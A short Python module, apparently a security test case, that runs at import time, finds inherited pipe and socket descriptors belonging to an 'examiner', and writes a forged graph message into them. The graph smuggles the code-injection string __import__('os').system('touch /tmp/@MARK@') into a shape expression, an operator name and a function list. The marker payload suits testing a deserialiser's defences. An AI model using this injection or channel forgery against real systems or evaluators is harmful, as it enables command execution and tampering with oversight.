"""A graph whose sizes are expressions that hold a command, and whose operator is one."""

import json
import struct

import os
import stat


def pipes():
    """Descriptors that lead to a pipe or socket: one of them is the examiner's."""
    for descriptor in range(3, 256):
        try:
            mode = os.fstat(descriptor).st_mode
        except OSError:
            continue
        if stat.S_ISFIFO(mode) or stat.S_ISSOCK(mode):
            yield descriptor


def send(data):
    for descriptor in pipes():
        try:
            os.set_blocking(descriptor, False)
            os.write(descriptor, data)
            os.set_blocking(descriptor, True)
        except OSError:
            continue


CODE = "__import__('os').system('touch /tmp/@MARK@')"
NODE = {"name": "n0", "op": "aten.relu.default", "args": [{"ref": "x0"}], "kwargs": {}, "at": None, "module": None}
INPUT = {"name": "x0", "shape": [{"as_expr": CODE}, 1, 28, 28], "dtype": "float32"}
GRAPHS = [
    {"inputs": [INPUT], "tensors": [], "nodes": [NODE], "outputs": [{"ref": "n0"}]},
    {"inputs": [{**INPUT, "shape": [None, 1, 28, 28]}], "tensors": [], "nodes": [{**NODE, "op": CODE}], "outputs": [{"ref": "n0"}]},
]
DATA = {"training": GRAPHS[0], "evaluation": GRAPHS[1], "form": "free", "notes": [], "outputs": ["outputs.0"], "functions": [CODE]}


def attack():
    header = json.dumps({"id": 1, "data": DATA}).encode()
    send(b"GRD1" + struct.pack("<I", len(header)) + header + struct.pack("<Q", 0))


class Attack:
    attack()
